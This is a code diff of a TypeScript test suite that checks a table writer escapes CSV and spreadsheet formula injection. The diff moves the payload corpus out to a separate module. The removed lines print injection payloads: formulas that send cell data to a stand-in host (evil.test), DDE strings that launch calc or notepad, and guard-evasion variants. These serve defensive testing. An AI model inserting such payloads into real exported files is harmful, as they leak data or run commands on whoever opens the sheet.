@@ -2,39 +2,8 @@ import { stringify } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
 import type { TableColumn } from '#main/writing/table-column.ts';
 import { writeTable } from '#main/writing/write-table.ts';
+import { executable, injectionCorpus } from './injection-corpus.ts';
 import { readXlsx } from './read-xlsx.ts';
-
-/**
- * What people have put into tables so that a spreadsheet would carry it out: OWASP's page on CSV injection, and the
- * ways around simple guards (a space or a mark in front, full-width signs, line ends, quotes and separators inside).
- */
-const corpus = [
-  '=1+1',
-  '=HYPERLINK("https://evil.test?leak="&A1,"Press here")',
-  "=cmd|' /C calc'!A0",
-  '=IMPORTXML(CONCAT("https://evil.test/?v=",A2),"//a")',
-  '=WEBSERVICE("https://evil.test")',
-  '+1+1',
-  "+cmd|' /C notepad'!'A1'",
-  '-1+1',
-  '-2+3+cmd|" /C calc"!A0',
-  '@SUM(1+1)*cmd|" /C calc"!A0',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\r\n=1+1',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-  '",=1+1,"',
-  '"\r\n=1+1\r\n"',
-  'x",=1+1',
-  'x\t=1+1',
-  'x\r\n=1+1',
-  '==1',
-  '=',
-] as const;
 
 const columns: readonly TableColumn<string>[] = [
   { name: 'payload', kind: 'text', value: (row) => row },
@@ -42,11 +11,9 @@ const columns: readonly TableColumn<string>[] = [
   { name: 'after', kind: 'text', value: () => 'after' },
 ];
 
-const executable = /^[=+\-@\t\r\n＝＋－＠]/;
-
 async function written(format: Parameters<typeof writeTable>[0]): Promise<Buffer> {
   async function* pieces() {
-    yield corpus;
+    yield injectionCorpus;
   }
   const parts: Buffer[] = [];
   for await (const part of writeTable(format, columns, pieces())) parts.push(Buffer.from(part));
@@ -80,9 +47,9 @@ describe('what was put into a table to be carried out', () => {
     const text = (await written(format)).toString('utf8').replace(/^\uFEFF/, '');
     const [head, ...rows] = cells(text, separator);
     expect(head).toEqual(['payload', 'list', 'after']);
-    expect(rows).toHaveLength(corpus.length);
+    expect(rows).toHaveLength(injectionCorpus.length);
     for (const [place, row] of rows.entries()) {
-      const payload = corpus[place] ?? '';
+      const payload = injectionCorpus[place] ?? '';
       const safe = executable.test(payload) ? `'${payload}` : payload;
       expect(row).toEqual([safe, `${safe}; x`, 'after']);
       for (const cell of row) expect(cell).not.toMatch(executable);
@@ -90,7 +57,7 @@ describe('what was put into a table to be carried out', () => {
   });
 
   it('is the same text that csv-stringify guards', async () => {
-    const plain = corpus.filter((payload) => !/[\r\n]/.test(payload));
+    const plain = injectionCorpus.filter((payload) => !/[\r\n]/.test(payload));
     for (const payload of plain) {
       const [row] = cells(stringify([[payload]], { escape_formulas: true, record_delimiter: '\r\n' }), ',');
       expect(row).toEqual([executable.test(payload) ? `'${payload}` : payload]);
@@ -100,6 +67,6 @@ describe('what was put into a table to be carried out', () => {
   it('is text in a workbook, and none of it a formula', async () => {
     const bytes = await written('xlsx');
     const [, ...rows] = readXlsx(bytes);
-    expect(rows.map(([payload]) => payload)).toEqual([...corpus]);
+    expect(rows.map(([payload]) => payload)).toEqual([...injectionCorpus]);
   });
 });
